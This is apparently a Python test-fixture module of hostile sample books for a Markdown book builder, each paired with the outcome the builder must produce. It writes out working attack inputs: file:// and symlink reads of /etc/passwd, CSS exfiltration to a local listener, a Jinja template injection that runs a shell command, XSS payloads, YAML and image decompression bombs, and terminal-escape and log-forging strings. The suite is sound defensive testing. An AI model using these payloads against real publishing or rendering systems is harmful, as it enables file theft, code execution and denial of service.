"""Tiny books that attack the machine that builds them: their content, and the required outcome.

Nothing here harms anything but a careless press. The targets are files outside every book (``secret.*``), /etc/passwd, a listener on
this machine, and marker files that must never come to be.
"""

from __future__ import annotations

import functools
import gzip
import os
import struct
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

Content = str | bytes

FM = "---\ntitle: Hostile chapter\n---\n\n"
"""The text begins on line 5."""
TOML = 'title = "Hostile book"\nlanguage = "en-US"\nauthors = ["A"]\n'
EVIL = TOML + 'theme = "evil"\n'
K = "CANARY-7f3a"
"""The content of the files outside the book."""
PASSWD, C = "/etc/passwd", "nologin||root:x:0"
LAUGHS = 'a0: &a0 ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
    f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]\n" for i in range(1, 10)
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """One book, and the required outcome."""

    id: str
    category: str
    expect: tuple[str, ...]
    """``error``: exit 1, the first problem names the place, nothing is published. ``neutralised``: published, and a problem
    names the place. ``ok``: published. One of them must hold."""
    where: tuple[str, ...]
    """``path`` or ``path:line`` that the problem names, one of them, ``*`` for anything; empty: any place."""
    attack: str
    files: Mapping[str, bytes]
    links: Mapping[str, str] = field(default_factory=dict)
    absent: tuple[str, ...] = ()
    """What no edition may contain in any form; ``@secret.png`` is that picture, ``+X`` means that it must contain X."""
    inert: tuple[str, ...] = ()
    """What must not be active in any edition: a tag, an attribute that loads, a script, an action; as text it is harmless."""
    editions: tuple[str, ...] = ()
    """The only editions to build, for large books that are harmless."""
    exits: tuple[int, ...] = (1,)
    """The statuses that say error."""

    def write(self, home: Path) -> Path:
        """Write the book and the files that it tries to reach into *home*; return the book's folder."""
        _put(home / "secret.txt", K + " top secret\n")
        _put(home / "secret.png", png(7, 11))
        _put(home / "secret.css", 'body::before{content:"' + K + '"}\n')
        _put(home / "secret.svg", svg(f'<text id="t" y="15">{K}</text>'))
        book = home / self.id
        for name, data in self.files.items():
            _put(book / name, data)
        for name, target in self.links.items():
            (book / name).symlink_to(target)
        return book


def _put(path: Path, data: Content) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(_bytes(data))


def _bytes(data: Content) -> bytes:
    return data if isinstance(data, bytes) else data.encode("utf-8", "surrogatepass")


def png(w: int, h: int, data: bytes | None = None) -> bytes:
    def chunk(kind: bytes, inside: bytes) -> bytes:
        words = kind + inside
        return struct.pack(">I", len(inside)) + words + struct.pack(">I", zlib.crc32(words))

    raw = data if data is not None else b"".join(b"\0" + b"\xff\0\0" * w for _ in range(h))
    head = struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")


def svg(inner: str, head: str = "", attributes: str = 'width="200" height="20"') -> str:
    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"{head}<svg {spaces} {attributes}>{inner}</svg>"


@functools.cache
def squeezed() -> bytes:
    """Return an SVG that is small and grows when it is unpacked."""
    return gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg">' + b" " * 20000000 + b"</svg>", 9, mtime=0)


def theme(*, html: str = "", css: str = "") -> dict[str, Content]:
    """Return the files of a theme inside the book; *html* is written under every name that a press may read."""
    made: dict[str, Content] = {
        "themes/evil/theme.toml": 'name = "evil"\nextends = "base"\n',
        "themes/evil/tokens.toml": "",
    }
    templates = (
        "book.html.j2 web/book.html.j2 pdf/screen.html.j2 pdf/print.html.j2 pdf/handout.html.j2 epub/chapter.xhtml.j2"
    )
    if html:
        made |= dict.fromkeys((f"themes/evil/templates/{name}" for name in templates.split()), html)
    if css:
        sheets = "book.css screen.css print.css handout.css epub.css web.css"
        made |= dict.fromkeys((f"themes/evil/css/{name}" for name in sheets.split()), css)
    return made


def cases(home: Path, port: int) -> tuple[Case, ...]:
    """Return all cases, with *home* as the folder of the files that they try to reach, and a listener at *port*."""
    found: list[Case] = []
    S, U = f"{home}/secret", f"http://127.0.0.1:{port}"  # noqa: N806 - as short as the attacks

    def case(
        name_: str,
        category: str,
        expect: str,
        where: str,
        attack: str,
        body: Content = "x\n",
        *,
        fm: str = FM,
        absent: str = "",
        inert: str = "",
        editions: str = "",
        exit: str = "1",  # noqa: A002 - the word of the index
        extra: Mapping[str, Content] | None = None,
        name: str = "chapter.md",
        links: Mapping[str, str] | None = None,
        toml: str = TOML,
    ) -> None:
        chapter = body if isinstance(body, bytes) else fm + body
        files: dict[str, Content] = {"handbound.toml": toml, name: chapter, **(extra or {})}
        found.append(
            Case(
                id=name_,
                category=category,
                expect=tuple(expect.split("/")),
                where=tuple(filter(None, where.split("|"))),
                attack=attack,
                files={path: _bytes(data) for path, data in files.items()},
                links=links or {},
                absent=tuple(filter(None, absent.split("||"))),
                inert=tuple(filter(None, inert.split("||"))),
                editions=tuple(filter(None, editions.split(","))),
                exits=tuple(map(int, exit.split(","))),
            )
        )

    # file
    case(
        "L02",
        "file",
        "neutralised/error",
        "chapter.md:5",
        "Markdown image climbing out of the book",
        "![p](../secret.png)\n",
        absent="@secret.png",
    )
    case(
        "L04",
        "file",
        "neutralised",
        "chapter.md:5",
        "<link rel=attachment>: the file is attached to the PDF",
        f'<link rel="attachment" href="file://{PASSWD}">\n',
        absent=C,
    )
    case(
        "L05",
        "file",
        "neutralised",
        "chapter.md:5",
        "<a rel=attachment>: the file is attached to the PDF",
        f'<a rel="attachment" href="file://{PASSWD}">x</a>\n',
        absent=C,
    )
    case(
        "L07",
        "file",
        "neutralised",
        "chapter.md:5",
        "inline style url() of a file: SVG",
        f'<div style="background:url(file://{S}.svg);height:30px">x</div>\n',
        absent=K,
    )
    case(
        "L08",
        "file",
        "neutralised",
        "chapter.md:5",
        "<object data=file:>",
        f'<object data="file://{S}.svg" type="image/svg+xml"></object>\n',
        absent=K,
    )
    case("L09", "file", "neutralised", "chapter.md:5", "<embed src=file:>", f'<embed src="file://{S}.svg">\n', absent=K)
    case(
        "L10",
        "file",
        "neutralised",
        "chapter.md:5",
        "<iframe src=file:>",
        f'<iframe src="file://{S}.txt"></iframe>\n',
        absent=K,
    )
    case(
        "L11",
        "file",
        "neutralised/error",
        "chapter.md:5|a.svg",
        "an SVG in the book that loads a file outside it",
        "![x](a.svg)\n",
        absent="@secret.png",
        extra={"a.svg": svg(f'<image xlink:href="file://{S}.png" width="9" height="9"/>')},
    )
    case(
        "L12",
        "file",
        "neutralised/error",
        "chapter.md:5",
        "inline <svg><image href=file:>",
        f'<svg width="200" height="20"><image href="file://{S}.svg" width="200" height="20"/></svg>\n',
        absent=K,
    )
    case(
        "L14",
        "file",
        "neutralised/error",
        "chapter.md:5|a.svg",
        "SVG with an outside entity",
        "![x](a.svg)\n",
        absent=C,
        extra={"a.svg": svg('<text y="15">&x;</text>', head=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{PASSWD}">]>')},
    )
    case(
        "L15",
        "file",
        "neutralised/error",
        "chapter.md:5|a.png",
        "image that is a symlink out of the book",
        "![x](a.png)\n",
        absent="@secret.png",
        links={"a.png": "../secret.png"},
    )
    case(
        "L16",
        "file",
        "neutralised/error",
        "b.md",
        "chapter that is a symlink out of the book",
        "ok\n",
        absent=C,
        links={"b.md": "/etc/passwd"},
    )
    case(
        "L17",
        "file",
        "neutralised/error",
        "chapter.md|d*",
        "folder that is a symlink out of the book",
        "![x](d/hostname.png)\n",
        links={"d": "/etc"},
    )
    case(
        "L19",
        "file",
        "ok",
        "",
        "second YAML block in the text (pandoc may read it as metadata)",
        f'Text.\n\n---\ncss: {S}.css\nheader-includes: "<style>@import url(file://{S}.css)</style>"\n---\n\nMore.\n',
        absent=K,
    )
    case(
        "L20",
        "file",
        "ok/neutralised",
        "",
        "front matter that names pandoc resources",
        fm=f"---\ntitle: t\nbibliography: {PASSWD}\ncss: {S}.css\ntemplate: {PASSWD}\n---\n\n",
        absent=K + "||" + C,
    )
    case(
        "L22",
        "file",
        "neutralised",
        "chapter.md:5",
        "@font-face from a file: URL",
        "<style>@font-face{font-family:x;src:url(file:///usr/share/fonts/truetype/dejavu/DejaVuSans.ttf)}body{font-family:x}</style>\n",
        inert="file:///usr/share",
    )
    case(
        "L23",
        "file",
        "neutralised/error",
        "chapter.md:5",
        "Markdown image with a file: URL",
        f"![p](file://{S}.svg)\n",
        absent=K,
    )
    case(
        "L24",
        "file",
        "neutralised/error",
        "chapter.md:5",
        "percent-encoded climbing",
        "![p](..%2fsecret.png)\n",
        absent="@secret.png",
    )
    case("L26", "file", "error/neutralised", "chapter.md:5", "NUL in a path", "![p](a%00.png)\n")

    # network
    case("S01", "network", "neutralised", "chapter.md:5", "Markdown image, remote", f"![p]({U}/S01.png)\n")
    case(
        "S03",
        "network",
        "neutralised",
        "chapter.md:5",
        "<link rel=stylesheet>, remote",
        f'<link rel="stylesheet" href="{U}/S03.css">\n',
    )
    case(
        "S04",
        "network",
        "neutralised",
        "chapter.md:5",
        "@import, remote",
        f'<style>@import "{U}/S04.css";</style>\n',
        inert="/S04.css",
    )
    case("S06", "network", "neutralised", "chapter.md:5", "<iframe>, remote", f'<iframe src="{U}/S06"></iframe>\n')
    case(
        "S08",
        "network",
        "neutralised",
        "chapter.md:5",
        "protocol-relative image",
        f"![p](//127.0.0.1:{port}/S08.png)\n",
    )
    case(
        "S09",
        "network",
        "neutralised/error",
        "chapter.md:5|a.svg",
        "SVG that loads a remote image",
        "![x](a.svg)\n",
        inert="/S09.png",
        extra={"a.svg": svg(f'<image xlink:href="{U}/S09.png" width="9" height="9"/>')},
    )
    case(
        "S10",
        "network",
        "neutralised",
        "chapter.md:5",
        "@font-face, remote",
        f"<style>@font-face{{font-family:x;src:url({U}/S10.woff)}}p{{font-family:x}}</style>\n\np\n",
        inert="/S10.woff",
    )
    case(
        "S12",
        "network",
        "neutralised",
        "chapter.md:5",
        "exfiltration by a CSS attribute selector",
        f'<style>a[href^="h"]{{background:url({U}/S12)}}</style>\n\n[a](https://example.org/)\n',
        inert="/S12",
    )

    # path
    case(
        "T02",
        "path",
        "error/neutralised/ok",
        "chapter.md:3",
        "absolute slug (a route in some handbooks)",
        fm=f"---\ntitle: t\nslug: {home}/PWNED-T02\n---\n\n",
    )
    case("T03", "path", "ok", "", "file name that looks like an option", name="--version.md")
    case(
        "T04",
        "path",
        "neutralised/ok/error",
        "",
        "two chapters, one slug",
        fm="---\ntitle: t\nslug: same\n---\n\n",
        extra={"b.md": "---\ntitle: u\nslug: same\n---\n\ny\n"},
    )
    case(
        "T07",
        "path",
        "ok",
        "",
        "chapters named like reserved files of an EPUB",
        name="nav.md",
        extra={"toc.md": FM + "y\n", "content.opf.md": FM + "z\n", "mimetype.md": FM + "m\n"},
    )
    case("T08", "path", "ok", "", "reserved device name", name="CON.md")
    case("T09", "path", "error", "a*b.md", "newline in a file name", name="a\nb.md")
    case("T10", "path", "error", "b*.md", "file name that is not UTF-8", extra={os.fsdecode(b"b\xff.md"): FM + "y\n"})

    # yaml
    case("Y01", "yaml", "error", "chapter.md", "a thousand million laughs", fm=f"---\ntitle: t\n{LAUGHS}---\n\n")
    case(
        "Y03",
        "yaml",
        "error",
        "chapter.md",
        "10,000 nested brackets",
        fm="---\ntitle: " + "[" * 10000 + "]" * 10000 + "\n---\n\n",
    )
    case("Y04", "yaml", "error", "chapter.md:3", "duplicate key", fm="---\ntitle: one\ntitle: two\n---\n\n")
    case("Y05", "yaml", "error", "chapter.md", "front matter is a list", fm="---\n- a\n- b\n---\n\n")
    case("Y06", "yaml", "error", "chapter.md:1", "front matter never closed", fm="---\ntitle: t\n\n")
    case("Y07", "yaml", "error", "chapter.md:3", "indented with a tab", fm="---\ntitle: t\n\tx: 1\n---\n\n")
    case(
        "Y10",
        "yaml",
        "error/neutralised/ok",
        "chapter.md:2",
        "title: yes must not become True",
        fm="---\ntitle: yes\n---\n\n",
        absent=">True<",
    )
    case("Y12", "yaml", "error", "chapter.md:3", "alias that holds itself", fm="---\ntitle: t\nx: &a [*a]\n---\n\n")
    case("Y16", "yaml", "neutralised/ok", "chapter.md", "no title at all", fm="---\nsidebar: 1\n---\n\n")
    case(
        "Y17",
        "yaml",
        "error/neutralised",
        "chapter.md:3",
        "sidebar of the wrong kind",
        fm="---\ntitle: t\nsidebar: [1, 2]\n---\n\n",
    )
    case(
        "Y20",
        "yaml",
        "error",
        "chapter.md",
        "merge-key bomb",
        fm="---\ntitle: t\na: &a {k: 1}\nb: &b {<<: [*a,*a,*a,*a]}\nc: {<<: [*b,*b,*b,*b]}\n---\n\n",
    )
    case("Y21", "yaml", "neutralised/ok", "chapter.md:3", "key typed wrong", fm="---\ntitle: t\nsidbar: 3\n---\n\n")

    # template
    case(
        "J01",
        "template",
        "ok",
        "",
        "template syntax in the text stays text",
        "{{ 7919*7919 }} {% raw %} {# c #}\n",
        absent="62710561",
    )
    case("J03", "template", "ok", "", "include in the text", "{% include '/etc/passwd' %}\n", absent=C)
    case(
        "J04",
        "template",
        "error",
        "themes/evil/*|handbound.toml*",
        "theme template that runs a command",
        exit="1,2",
        toml=EVIL,
        extra=theme(
            html="{{ cycler.__init__.__globals__.os.popen('touch " + str(home) + "/PWNED-J04').read() }}{{ body }}"
        ),
    )
    case(
        "J07",
        "template",
        "error",
        "themes/evil/*|handbound.toml*",
        "theme CSS that imports outside the theme",
        exit="1,2",
        toml=EVIL,
        absent=K,
        extra=theme(css=f'@import url("file://{S}.css");'),
    )

    # script
    case("X01", "script", "neutralised", "chapter.md:5", "<script>", "<script>alert(1)</script>\n", inert="alert(1)")
    case(
        "X02",
        "script",
        "neutralised",
        "chapter.md:5",
        "onerror",
        '<img src="x.png" alt="" onerror="alert(1)">\n',
        inert=" onerror=",
    )
    case(
        "X03",
        "script",
        "neutralised/error",
        "chapter.md:5",
        "javascript: link",
        "[x](javascript:alert(1))\n",
        inert='="javascript:',
    )
    case(
        "X05",
        "script",
        "error/ok",
        "chapter.md:5",
        "data: HTML link (some readers see no link: then it is text)",
        "[x](data:text/html,<script>alert(1)</script>)\n",
        inert='="data:text/html',
    )
    case(
        "X08",
        "script",
        "neutralised",
        "chapter.md:5",
        "form and autofocus",
        '<form action="https://example.org/"><input autofocus onfocus="alert(1)"></form>\n',
        inert=" onfocus=",
    )
    case(
        "X10",
        "script",
        "neutralised",
        "chapter.md:5",
        "<meta refresh>",
        '<meta http-equiv="refresh" content="0;url=https://example.org/">\n',
        inert='http-equiv="refresh"',
    )
    case(
        "X12",
        "script",
        "neutralised/error",
        "chapter.md:5",
        "MathML xlink",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>\n',
        inert='="javascript:',
    )
    case(
        "X13",
        "script",
        "neutralised",
        "chapter.md:5",
        "breaking out of a comment",
        "<!--><script>alert(1)</script>-->\n",
        inert="alert(1)",
    )
    case(
        "X15",
        "script",
        "neutralised",
        "chapter.md:5",
        "link title and alt text that break out",
        '![a" onerror="alert(1)](x.png "t\' onload=\'alert(1)")\n',
        inert=" onerror=|| onload=",
    )
    case(
        "X17",
        "script",
        "neutralised/ok",
        "chapter.md:5",
        "raw attribute block for another format",
        "```{=latex}\n\\input{/etc/passwd}\n```\n",
        absent=C,
    )
    case(
        "X18",
        "script",
        "neutralised/error",
        "chapter.md:5",
        "unclosed tag swallows the rest of the book",
        "<div><table><tr><td>open\n",
        absent="+LASTWORDS9d1c",
        extra={"z.md": "---\ntitle: After\n---\n\nLASTWORDS9d1c\n"},
    )
    case(
        "X20",
        "script",
        "neutralised",
        "chapter.md:5",
        "name that shadows a part of the page",
        '<img id="nav" name="body" src="x.png" alt="">\n',
        inert=' name="body"',
    )

    # link
    case(
        "K01",
        "link",
        "neutralised/error",
        "chapter.md:5",
        "Google redirect to javascript: must not become a link",
        "[x](https://www.google.com/url?q=javascript:alert(1)&sa=D)\n",
        inert='="javascript:',
    )
    case(
        "K02",
        "link",
        "neutralised/error",
        "chapter.md:5",
        "Google redirect to file: must not become a link",
        "[x](https://www.google.com/url?q=file:///etc/passwd)\n",
        inert='="file:',
    )
    case(
        "K03",
        "link",
        "ok/neutralised",
        "",
        "look-alike of a redirect host is left alone",
        "[x](https://www.google.com.evil.example/url?q=https://example.org/)\n",
    )
    case(
        "K04",
        "link",
        "ok/neutralised",
        "",
        "redirect in a redirect, 50 deep",
        "[x](" + "https://www.google.com/url?q=" * 50 + "https://example.org/)\n",
    )
    case(
        "K05",
        "link",
        "neutralised",
        "chapter.md:5",
        "link to a chapter that is not there",
        "[x](missing.md)\n",
        inert='"missing.md',
    )
    case(
        "K08",
        "link",
        "neutralised",
        "chapter.md:5",
        "user name that looks like another host",
        "[x](https://example.org@evil.example/)\n",
    )

    # bomb
    case(
        "B01",
        "bomb",
        "neutralised/error",
        "chapter.md:5|a.png",
        "PNG of 30,000 x 30,000 pixels in 100 bytes",
        "![x](a.png)\n",
        extra={"a.png": png(30000, 30000, b"")},
    )
    case(
        "B04",
        "bomb",
        "error/neutralised",
        "chapter.md:5|a.svg",
        "SVG <use> of itself",
        "![x](a.svg)\n",
        extra={"a.svg": svg('<g id="a"><use xlink:href="#a"/></g>')},
    )
    case("B06", "bomb", "error", "chapter.md:5", "5,000 nested block quotes", ">" * 5000 + " x\n")
    case(
        "B07",
        "bomb",
        "error",
        "chapter.md",
        "1,000 nested bullets",
        "\n".join("  " * i + "- x" for i in range(1000)) + "\n",
    )
    case(
        "B08",
        "bomb",
        "neutralised/error",
        "chapter.md:5",
        "colspan of a thousand million",
        '<table><tr><td colspan="1000000000">x</td></tr><tr><td>y</td></tr></table>\n',
    )
    case(
        "B10",
        "bomb",
        "error/neutralised",
        "chapter.md:5",
        "2,000 nested raw <div>",
        "<div>" * 2000 + "x" + "</div>" * 2000 + "\n",
    )
    case(
        "B11",
        "bomb",
        "ok/neutralised",
        "",
        "50,000 straight quotes in one paragraph",
        "\"a' " * 25000 + "\n",
        editions="epub,html",
    )
    case(
        "B12",
        "bomb",
        "ok/neutralised/error",
        "",
        "one word of a million letters",
        "a" * 1000000 + "\n",
        editions="epub,html,pdf",
    )
    case(
        "B41",
        "bomb",
        "neutralised",
        "chapter.md:5|a.svg",
        "SVG gradient that is repeated a thousand million times",
        "![x](a.svg)\n",
        extra={
            "a.svg": svg(
                '<linearGradient id="g" gradientUnits="userSpaceOnUse" x2="1e-6" spreadMethod="repeat"><stop offset="0"/>'
                '<stop offset="1"/></linearGradient><rect width="1e6" height="9" fill="url(#g)"/>'
            )
        },
        editions="epub,html,pdf",
    )
    case("B42", "bomb", "ok/neutralised", "", "1,000 opening brackets", "[" * 1000 + "\n")
    case(
        "B43",
        "bomb",
        "neutralised",
        "chapter.md:5",
        "products of spans",
        "<table><tr>" + '<td colspan="1000" rowspan="65534">x</td>' * 50 + "</tr></table>\n",
    )
    case("B13", "bomb", "error/neutralised", "chapter.md", "footnote that notes itself", "x[^1]\n\n[^1]: y[^1]\n")
    case(
        "B14",
        "bomb",
        "error",
        "chapter.md",
        "one long reference used 2,000 times",
        "[a]: https://example.org/" + "x" * 100000 + "\n\n" + "[a] " * 2000 + "\n",
    )
    case(
        "B16",
        "bomb",
        "error/neutralised",
        "chapter.md:5|a.svg",
        "gzipped SVG named .svg",
        "![x](a.svg)\n",
        extra={"a.svg": squeezed()},
    )
    case(
        "B19",
        "bomb",
        "ok",
        "",
        "table of 3,000 rows",
        "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 3000,
        editions="epub,html,pdf",
    )

    # encoding
    case("E02", "encoding", "error", "chapter.md:1", "UTF-16 with a mark", (FM + "x\n").encode("utf-16"))
    case(
        "E03",
        "encoding",
        "ok",
        "",
        "UTF-8 mark first (front matter must still be read)",
        b"\xef\xbb\xbf" + FM.encode() + b"x\n",
        absent="title: Hostile",
    )
    case("E05", "encoding", "ok", "", "CR only", (FM + "a\nb\n").replace("\n", "\r").encode(), absent="title: Hostile")
    case("E09", "encoding", "error/neutralised/ok", "", "empty file", b"")
    case("E10", "encoding", "neutralised/ok", "", "front matter and no text", b"---\ntitle: t\n---\n")
    case(
        "E12",
        "encoding",
        "neutralised",
        "chapter.md:5",
        "bidi override hides the real address",
        "[safe\u202egro.elpmaxe](https://example.org/)\n",
    )
    case("E13", "encoding", "error", "chapter.md:1", "a PNG named .md", png(9, 9))
    case(
        "E14",
        "encoding",
        "error/neutralised",
        "chapter.md:5",
        "numeric references to forbidden characters",
        "a&#0;b&#x1b;c&#xFFFF;d&#xD800;e\n",
    )

    # message
    case(
        "M02",
        "message",
        "neutralised/error",
        "chapter.md:5",
        "path with terminal escapes in a message",
        "![x](<\x1b[2J\x1b]0;pwn\x07.png>)\n",
    )
    case(
        "M04",
        "message",
        "error/neutralised",
        "chapter.md:2",
        "title that forges a line of a log",
        "![x](missing.png)\n",
        fm='---\ntitle: "a\\n::set-env name=X::1"\n---\n\n',
    )
    case(
        "M05",
        "message",
        "neutralised/error",
        "chapter.md:5",
        "a message must not print 1 MB of input",
        "![x](" + "a" * 1000000 + ".png)\n",
    )

    return tuple(found)
